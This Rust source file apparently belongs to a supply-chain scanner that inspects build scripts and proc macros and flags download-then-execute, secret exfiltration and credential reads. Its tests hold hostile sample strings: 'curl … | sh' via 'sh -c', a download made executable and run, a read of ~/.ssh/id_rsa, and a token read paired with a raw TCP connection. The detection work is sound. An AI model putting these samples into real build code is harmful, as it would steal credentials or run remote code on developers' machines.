//! What code that runs at build time can do: a build script, or a proc macro (which runs inside
//! the compiler on every developer's machine and in CI). Each file is read as tokens by the
//! inventory's lexer, which sees inside macro calls (`format!`, `println!`) where a syn visitor
//! would see an opaque token stream, and leaves comments and doc comments out.
//!
//! The facts are deliberately concrete (a call path, a literal), so every capability comes with
//! the line that shows it. Which facts make which rule is decided in [`Facts::capabilities`]:
//! ordinary capabilities are inventory, and only combinations nothing ordinary needs (download
//! then execute, a credential file, a secret sent over the network) are malicious indicators.

use super::lexer::{Token, Tokens};
use super::signals::*;

/// One use of a capability: the rule it falls under, where, and what shows it.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Evidence {
    pub rule: String,
    /// Relative to the crate's directory, `/` separators.
    pub file: String,
    pub line: usize,
    pub detail: String,
    /// A crate this evidence holds only when the lockfile builds it with this one (an optional
    /// build dependency: `cc` behind a feature). `None`: it always holds.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub needs: Option<String>,
}

/// Facts about one unit of build-time code (a build script's files, or a proc macro's).
#[derive(Debug, Default)]
pub struct Facts {
    network: Vec<(String, usize, String)>,
    processes: Vec<(String, usize, Option<String>)>,
    exec_permission: Vec<(String, usize, String)>,
    writes: Vec<(String, usize, String)>,
    mentions_out_dir: bool,
    /// It prints `cargo:rustc-link-lib`: it links a native library.
    links_native_library: bool,
    /// Environment variables that name build tools, as read (`RUSTC`, `CC`).
    tool_variables: Vec<String>,
    secret_env: Vec<(String, usize, String)>,
    credential_files: Vec<(String, usize, String)>,
    /// It reads files (`fs::read`, `File::open`, `read_dir`): a credential path is only a
    /// read when something reads.
    reads_files: bool,
    /// `http://` and `https://` literals: where it connects.
    urls: Vec<String>,
    /// A literal that downloads and pipes into a shell (`curl … | sh`).
    piped_downloads: Vec<(String, usize, String)>,
    /// Literal flags that make an interpreter run the next argument as code (`-c`, `/C`).
    inline_code_flag: bool,
    blobs: Vec<(String, usize, usize)>,
    decodes: bool,
    /// Names `std::process::Command` is imported as (`use std::process::Command as Cmd`).
    command_aliases: Vec<String>,
    /// Skip `quote!` bodies (set for proc macros that do not define a `quote` macro of their
    /// own): they are the code the macro emits, not what it does.
    pub skip_quote: bool,
}

impl Facts {
    /// Whether the code tells cargo to link a native library (`cargo:rustc-link-lib=…`).
    pub fn links_native_library(&self) -> bool {
        self.links_native_library
    }

    /// Reads one file of the unit (`file`: its path relative to the crate).
    pub fn read(&mut self, file: &str, text: &[u8]) {
        let mut tokens = Tokens::new(text);
        // A sliding window of the last tokens with their lines, enough for `a::b::c(`.
        let mut window: Vec<(Token<'_>, usize)> = Vec::with_capacity(8);
        while let Some(token) = tokens.next_token() {
            let line = tokens.token_line();
            // `quote! { … }` is the code a proc macro emits, not what it does: skipped.
            if let (true, Some((Token::Punct(b'!'), _))) = (self.skip_quote, window.last()) {
                let quoting = window.len() >= 2
                    && matches!(
                        window[window.len() - 2].0,
                        Token::Ident(
                            b"quote" | b"quote_spanned" | b"parse_quote" | b"parse_quote_spanned"
                        )
                    );
                if quoting {
                    if let Token::Punct(open @ (b'(' | b'[' | b'{')) = token {
                        skip_group(&mut tokens, open);
                        window.clear();
                        continue;
                    }
                }
            }
            if window.len() == 8 {
                window.remove(0);
            }
            window.push((token, line));
            self.observe(file, &window);
        }
    }

    /// Looks at the newest token in the light of the ones before it.
    fn observe(&mut self, file: &str, window: &[(Token<'_>, usize)]) {
        let n = window.len();
        let (token, line) = window[n - 1];
        let back = |k: usize| n.checked_sub(k + 1).map(|i| window[i].0);
        let ident_before_path = |k: usize| match (back(k), back(k + 1), back(k + 2)) {
            (Some(Token::Punct(b':')), Some(Token::Punct(b':')), Some(Token::Ident(name))) => {
                Some(name)
            }
            _ => None,
        };
        let aliases = self.command_aliases.clone();
        let is_command = |name: Option<&[u8]>| {
            name.is_some_and(|name| {
                name == b"Command" || aliases.iter().any(|alias| alias.as_bytes() == name)
            })
        };
        // `Command::new(` with `new` at back(k) and its parenthesis at back(k - 1).
        let command_new_at = |k: usize| {
            back(k - 1) == Some(Token::Punct(b'('))
                && back(k) == Some(Token::Ident(b"new"))
                && is_command(ident_before_path(k + 1))
        };
        match token {
            Token::Ident(name) => {
                let text = String::from_utf8_lossy(name);
                // `use std::process::Command as Cmd;`
                let aliased = match back(2) {
                    Some(Token::Ident(before)) => Some(before),
                    _ => None,
                };
                if back(1) == Some(Token::Ident(b"as")) && is_command(aliased) {
                    self.command_aliases.push(text.to_string());
                }
                // `use reqwest as http;`, `extern crate curl;`: the crate, without a path.
                let imported = back(1) == Some(Token::Ident(b"use"))
                    || (back(1) == Some(Token::Ident(b"crate"))
                        && back(2) == Some(Token::Ident(b"extern")));
                if imported && NETWORK_CRATES.contains(&text.as_ref()) {
                    self.network
                        .push((file.to_owned(), line, format!("uses the `{text}` crate")));
                }
                if NETWORK_TYPES.contains(&text.as_ref()) {
                    self.network
                        .push((file.to_owned(), line, format!("uses `{text}`")));
                }
                if matches!(
                    text.as_ref(),
                    "decode" | "from_hex" | "FromHex" | "decode_to_vec" | "from_base64"
                ) {
                    self.decodes = true;
                }
                if let Some(parent) = ident_before_path(1) {
                    let read = matches!(
                        (parent, name),
                        (b"fs", b"read" | b"read_to_string" | b"read_dir" | b"copy")
                            | (b"File", b"open")
                    );
                    self.reads_files |= read;
                }
                if matches!(text.as_ref(), "read_to_string" | "read_dir" | "OpenOptions") {
                    self.reads_files = true;
                }
                if let Some(parent) = ident_before_path(1) {
                    let parent = String::from_utf8_lossy(parent);
                    let write = matches!(
                        (parent.as_ref(), text.as_ref()),
                        (
                            "fs",
                            "write" | "copy" | "rename" | "create_dir_all" | "create_dir"
                        ) | ("fs", "remove_file" | "remove_dir_all" | "hard_link")
                            | ("File", "create" | "create_new")
                    );
                    if write {
                        self.writes
                            .push((file.to_owned(), line, format!("`{parent}::{text}`")));
                    }
                }
                if text == "OpenOptions" {
                    self.writes
                        .push((file.to_owned(), line, "`OpenOptions`".to_owned()));
                }
            }
            // A mode with an execute bit: `from_mode(0o755)`, `set_mode(0o700)`, `.mode(0o755)`.
            Token::Number(digits)
                if back(1) == Some(Token::Punct(b'('))
                    && matches!(
                        back(2),
                        Some(Token::Ident(b"from_mode" | b"set_mode" | b"mode"))
                    )
                    && mode_is_executable(digits) =>
            {
                self.exec_permission.push((
                    file.to_owned(),
                    line,
                    format!(
                        "makes a file executable (mode {})",
                        String::from_utf8_lossy(digits)
                    ),
                ));
            }
            Token::Punct(b':') if back(1) == Some(Token::Punct(b':')) => {
                // `reqwest::` (or `::reqwest::`) at the start of a path: the crate is used.
                if let Some(Token::Ident(name)) = back(2) {
                    let starts_path = match (back(3), back(4), back(5)) {
                        (Some(Token::Punct(b':')), Some(Token::Punct(b':')), before) => {
                            !matches!(before, Some(Token::Ident(_) | Token::Punct(b'>')))
                        }
                        (Some(Token::Punct(b':')), ..) => false,
                        _ => true,
                    };
                    let text = String::from_utf8_lossy(name);
                    if starts_path && NETWORK_CRATES.contains(&text.as_ref()) {
                        let already = self
                            .network
                            .iter()
                            .any(|(f, l, d)| f == file && *l == line && d.contains(text.as_ref()));
                        if !already {
                            self.network.push((
                                file.to_owned(),
                                line,
                                format!("uses the `{text}` crate"),
                            ));
                        }
                    }
                }
            }
            Token::Str(body) => {
                let value = String::from_utf8_lossy(body);
                if value == "OUT_DIR" {
                    self.mentions_out_dir = true;
                }
                if value.contains("rustc-link-lib") {
                    self.links_native_library = true;
                }
                if value.starts_with("http://") || value.starts_with("https://") {
                    self.urls.push(value.to_string());
                }
                if matches!(
                    value.as_ref(),
                    "-c" | "-e" | "/C" | "/c" | "-Command" | "-command" | "-EncodedCommand"
                ) {
                    self.inline_code_flag = true;
                }
                // `Command::new("…")`: the program run.
                if command_new_at(2) {
                    self.processes
                        .push((file.to_owned(), line, Some(value.to_string())));
                    let program = program_name(&value);
                    if DOWNLOADERS.contains(&program.as_str()) {
                        self.network
                            .push((file.to_owned(), line, format!("runs `{program}`")));
                    }
                }
                // `env::var("…")`, `var_os`, `env!`, `option_env!`: a variable read.
                let reads_variable = back(1) == Some(Token::Punct(b'('))
                    && matches!(
                        (back(2), back(3)),
                        (Some(Token::Ident(b"var" | b"var_os")), _)
                            | (
                                Some(Token::Punct(b'!')),
                                Some(Token::Ident(b"env" | b"option_env"))
                            )
                    );
                if reads_variable
                    && TOOL_VARIABLES.contains(&value.as_ref())
                    && !self.tool_variables.contains(&value.to_string())
                {
                    self.tool_variables.push(value.to_string());
                }
                if reads_variable && is_secret_name(&value) {
                    self.secret_env.push((
                        file.to_owned(),
                        line,
                        format!("reads the environment variable `{value}`"),
                    ));
                }
                if let Some(part) = CREDENTIAL_FILES.iter().find(|p| value.contains(*p)) {
                    self.credential_files.push((
                        file.to_owned(),
                        line,
                        format!(
                            "names the credential file `{part}` (\"{}\")",
                            shorten(&value)
                        ),
                    ));
                } else if matches!(value.as_ref(), ".ssh" | ".aws" | ".ssh/" | ".aws/") {
                    self.credential_files.push((
                        file.to_owned(),
                        line,
                        format!("names the credential directory `{value}`"),
                    ));
                }
                let lowered = value.to_ascii_lowercase();
                if DOWNLOADERS.iter().any(|d| {
                    lowered.starts_with(&format!("{d} "))
                        || lowered.contains(&format!("| {d} "))
                        || lowered.contains(&format!("; {d} "))
                }) || lowered.contains("invoke-webrequest")
                    || lowered.contains("downloadfile(")
                {
                    self.network.push((
                        file.to_owned(),
                        line,
                        format!(
                            "passes a command line that downloads (\"{}\")",
                            shorten(&value)
                        ),
                    ));
                    if pipes_into_interpreter(&lowered) {
                        self.piped_downloads.push((
                            file.to_owned(),
                            line,
                            format!(
                                "passes a command line that downloads a script and runs it (\"{}\")",
                                shorten(&value)
                            ),
                        ));
                    }
                }
                let chmod = lowered.starts_with("chmod") || lowered.contains(" chmod ");
                let executable = lowered.contains("+x")
                    || lowered
                        .split_whitespace()
                        .any(|word| mode_is_executable(word.as_bytes()));
                if chmod && executable {
                    self.exec_permission.push((
                        file.to_owned(),
                        line,
                        "runs `chmod +x`".to_owned(),
                    ));
                }
                if is_blob(&value) {
                    self.blobs.push((file.to_owned(), line, value.len()));
                }
            }
            _ => {}
        }
        // `Command::new(x)` with a program that is not a literal: known at its first token.
        if !matches!(token, Token::Str(_)) && command_new_at(2) {
            self.processes.push((file.to_owned(), line, None));
        }
    }

    /// The capabilities these facts amount to, `place` saying which unit they are about ("build
    /// script", "proc macro").
    pub fn capabilities(&self, place: &str) -> Vec<Evidence> {
        let mut found = Vec::new();
        let evidence = |rule: &str, (file, line, detail): (&String, &usize, String)| Evidence {
            rule: rule.to_owned(),
            file: file.clone(),
            line: *line,
            detail: format!("{place} {detail}"),
            needs: None,
        };
        // Processes: `Command::new` with a literal is listed once per literal; without one, a
        // computed program.
        let mut interpreters = Vec::new();
        let mut listed: Vec<Option<String>> = Vec::new();
        for (file, line, program) in &self.processes {
            let shown = program.as_deref().map(program_name);
            if let Some(name) = &shown {
                if INTERPRETERS.contains(&name.as_str()) {
                    interpreters.push((file, line, format!("runs the interpreter `{name}`")));
                }
            }
            if listed.contains(&shown) {
                continue;
            }
            listed.push(shown.clone());
            // A path (`./target/tools/nasm`) is a file of the crate or the build, not the build
            // tool of that name on the machine: shown as written.
            let written = program.as_deref().filter(|p| p.contains(['/', '\\']));
            let detail = match (&shown, written) {
                (Some(_), Some(path)) => format!("runs `{}`", shorten(path)),
                (Some(name), None) if TOOLCHAIN.contains(&name.as_str()) => {
                    format!("runs `{name}` (a build tool)")
                }
                (Some(name), None) => format!("runs `{name}`"),
                (None, _) if self.tool_variables.is_empty() => {
                    "runs a program it computes at build time".to_owned()
                }
                (None, _) => format!(
                    "runs a program it computes at build time (it reads `{}`)",
                    self.tool_variables.join("`, `")
                ),
            };
            found.push(evidence("build-process", (file, line, detail)));
        }
        for (file, line, detail) in &self.network {
            found.push(evidence("build-network", (file, line, detail.clone())));
        }
        // A build script that reads OUT_DIR may write there; one that never does writes elsewhere.
        // A proc macro has no output directory of its own: whatever it writes is outside.
        let is_macro = place == "proc macro";
        if is_macro || !self.mentions_out_dir {
            for (file, line, detail) in &self.writes {
                let detail = if is_macro {
                    format!("writes files with {detail}")
                } else {
                    format!("writes files with {detail} and never reads OUT_DIR")
                };
                found.push(evidence("build-file-write", (file, line, detail)));
            }
        }
        for (file, line, detail) in &self.secret_env {
            found.push(evidence("build-secret-env", (file, line, detail.clone())));
        }
        if self.decodes {
            for (file, line, length) in &self.blobs {
                found.push(evidence(
                    "opaque-payload",
                    (
                        file,
                        line,
                        format!("decodes an encoded blob of {length} characters"),
                    ),
                ));
            }
        }
        // The malicious indicators: combinations no ordinary build needs. Executing is making a
        // file executable, or running an interpreter on inline code (`sh -c`); a script an
        // interpreter reads from the crate (`python3 gen.py`, `sh configure`) is ordinary.
        for (file, line, detail) in &self.piped_downloads {
            found.push(evidence(
                "build-download-execute",
                (file, line, detail.clone()),
            ));
        }
        if let (Some(network), true) = (self.network.first(), self.piped_downloads.is_empty()) {
            let executes = self
                .exec_permission
                .first()
                .map(|(f, l, d)| (f, l, d.clone()))
                .or_else(|| {
                    interpreters
                        .first()
                        .filter(|_| self.inline_code_flag)
                        .cloned()
                });
            if let Some((file, line, detail)) = executes {
                let first = &network.2;
                found.push(evidence(
                    "build-download-execute",
                    (
                        file,
                        line,
                        format!("{detail} here and {first} on line {}", network.1),
                    ),
                ));
            }
        }
        // A GitHub token sent to GitHub (a release download that avoids the rate limit) is not
        // exfiltration.
        let github_only = !self.urls.is_empty()
            && self.urls.iter().all(|url| is_github_url(url))
            && self.secret_env.iter().all(|(_, _, detail)| {
                detail.contains("`GITHUB_TOKEN`") || detail.contains("`GH_TOKEN`")
            });
        if let (Some(network), false) = (self.network.first(), github_only) {
            if let Some((file, line, detail)) = self.secret_env.first() {
                found.push(evidence(
                    "build-secret-exfiltration",
                    (
                        file,
                        line,
                        format!(
                            "{detail} here and {first} on line {}",
                            network.1,
                            first = network.2
                        ),
                    ),
                ));
            }
        }
        // A credential path is a read only when the unit reads files at all (a message that
        // mentions `~/.ssh/id_rsa` reads nothing).
        if self.reads_files {
            for (file, line, detail) in &self.credential_files {
                found.push(evidence(
                    "build-credential-read",
                    (file, line, detail.clone()),
                ));
            }
        }
        found
    }
}

/// Skips to the delimiter that closes the group `open` began.
fn skip_group(tokens: &mut Tokens<'_>, open: u8) {
    let close = match open {
        b'(' => b')',
        b'[' => b']',
        _ => b'}',
    };
    let mut depth = 1usize;
    while let Some(token) = tokens.next_token() {
        match token {
            Token::Punct(b) if b == open => depth += 1,
            Token::Punct(b) if b == close => {
                depth -= 1;
                if depth == 0 {
                    return;
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(source: &str) -> Vec<String> {
        let mut facts = Facts::default();
        facts.read("build.rs", source.as_bytes());
        let mut rules: Vec<String> = facts
            .capabilities("build script")
            .into_iter()
            .map(|e| e.rule)
            .collect();
        rules.sort();
        rules.dedup();
        rules
    }

    #[test]
    fn a_literal_program_is_named_not_called_computed() {
        let mut facts = Facts::default();
        facts.read("build.rs", b"fn main() { std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().ok(); }");
        let details: Vec<String> = facts
            .capabilities("build script")
            .into_iter()
            .map(|e| e.detail)
            .collect();
        assert_eq!(details, ["build script runs `git` (a build tool)"]);
    }

    #[test]
    fn a_cc_build_is_only_a_build_tool() {
        let source = "fn main() { cc::Build::new().file(\"src/x.c\").compile(\"x\"); let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(out, \"\").unwrap(); }";
        assert!(rules(source).is_empty(), "{:?}", rules(source));
    }

    #[test]
    fn rustc_version_probe_is_an_ordinary_process() {
        let source = "use std::process::Command;\nfn main() { let rustc = std::env::var(\"RUSTC\").unwrap(); Command::new(rustc).arg(\"-V\").output().unwrap(); }";
        assert_eq!(rules(source), ["build-process"]);
    }

    #[test]
    fn download_then_chmod_is_download_and_execute() {
        let source = "fn main() { let body = reqwest::blocking::get(\"https://x.example/p\").unwrap().bytes().unwrap();\n std::fs::write(\"/tmp/p\", &body).unwrap();\n let mut perm = std::fs::metadata(\"/tmp/p\").unwrap().permissions(); perm.set_mode(0o755);\n std::process::Command::new(\"/tmp/p\").spawn().unwrap(); }";
        let found = rules(source);
        assert!(
            found.contains(&"build-download-execute".to_owned()),
            "{found:?}"
        );
    }

    #[test]
    fn curl_piped_to_sh_is_download_and_execute() {
        let source = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example/i | sh\").status().unwrap(); }";
        let found = rules(source);
        assert!(
            found.contains(&"build-download-execute".to_owned()),
            "{found:?}"
        );
    }

    #[test]
    fn a_configure_script_without_network_is_not_malicious() {
        let source = "fn main() { let out = std::env::var(\"OUT_DIR\").unwrap(); std::process::Command::new(\"sh\").arg(\"configure\").current_dir(out).status().unwrap(); }";
        assert_eq!(rules(source), ["build-process"]);
    }

    #[test]
    fn credential_paths_inside_format_macros_are_seen() {
        let source = "fn main() { let home = std::env::var(\"HOME\").unwrap(); let key = std::fs::read(format!(\"{home}/.ssh/id_rsa\")); }";
        assert_eq!(rules(source), ["build-credential-read"]);
    }

    #[test]
    fn doc_comments_and_comments_are_not_evidence() {
        let source = "/// reads ~/.ssh/id_rsa? no.\n// reqwest::get(\"https://x\")\nfn main() {}";
        assert!(rules(source).is_empty());
    }

    #[test]
    fn code_a_proc_macro_emits_is_not_what_it_does() {
        let source = "pub fn derive() -> TokenStream { quote! { let c = std::process::Command::new(\"sh\"); reqwest::get(\"https://x\"); } }";
        let mut facts = Facts {
            skip_quote: true,
            ..Facts::default()
        };
        facts.read("src/lib.rs", source.as_bytes());
        assert!(facts.capabilities("proc macro").is_empty());
        // A build script's `quote!` (or one a crate defines to run its input) is read.
        assert_eq!(rules(source), ["build-network", "build-process"]);
    }

    #[test]
    fn ordinary_builds_that_download_are_not_malicious() {
        // A downloaded library made readable, not executable.
        let readable = "fn main() { let b = ureq::get(\"https://x.example/lib.a\").call(); let p = std::fs::Permissions::from_mode(0o644); }";
        assert_eq!(rules(readable), ["build-network"]);
        // Code generation with a script the crate ships.
        let codegen = "fn main() { let _ = ureq::get(\"https://x.example/spec.json\").call(); std::process::Command::new(\"python3\").arg(\"gen.py\").status(); }";
        assert_eq!(rules(codegen), ["build-network", "build-process"]);
        // A GitHub token that authenticates a GitHub release download.
        let github = "fn main() { let t = std::env::var(\"GITHUB_TOKEN\"); let _ = ureq::get(\"https://api.github.com/repos/o/r/releases/latest\").set(\"Authorization\", &t.unwrap()).call(); }";
        assert_eq!(rules(github), ["build-network", "build-secret-env"]);
        // A message naming a key file reads nothing.
        let message = "fn main() { println!(\"cargo:warning=put your key in ~/.ssh/id_rsa\"); }";
        assert!(rules(message).is_empty());
    }

    #[test]
    fn aliases_leading_colons_and_raw_identifiers_do_not_hide_a_download() {
        let aliased = "use std::process::Command as Cmd;\nfn main() { Cmd::new(\"sh\").arg(\"-c\").arg(\"x\").status(); let _ = ::reqwest::blocking::get(\"https://x.example/p\"); }";
        assert!(
            rules(aliased).contains(&"build-download-execute".to_owned()),
            "{:?}",
            rules(aliased)
        );
        let raw = "fn main() { let _ = r#ureq::get(\"https://x.example/p\"); }";
        assert_eq!(rules(raw), ["build-network"]);
        let renamed =
            "use ureq as http;\nfn main() { let _ = http::get(\"https://x.example/p\"); }";
        assert_eq!(rules(renamed), ["build-network"]);
    }

    #[test]
    fn execute_bits_are_read_from_the_mode() {
        for (literal, executable) in [
            ("0o755", true),
            ("0o644", false),
            ("0o100", true),
            ("493", true),
            ("420", false),
            ("0o7_5_5", true),
        ] {
            assert_eq!(
                mode_is_executable(literal.as_bytes()),
                executable,
                "{literal}"
            );
        }
    }

    #[test]
    fn a_secret_read_and_a_connection_is_exfiltration() {
        let source = "fn main() { let t = std::env::var(\"GITHUB_TOKEN\").unwrap(); let mut s = std::net::TcpStream::connect(\"1.2.3.4:80\").unwrap(); }";
        assert_eq!(
            rules(source),
            [
                "build-network",
                "build-secret-env",
                "build-secret-exfiltration"
            ]
        );
    }
}
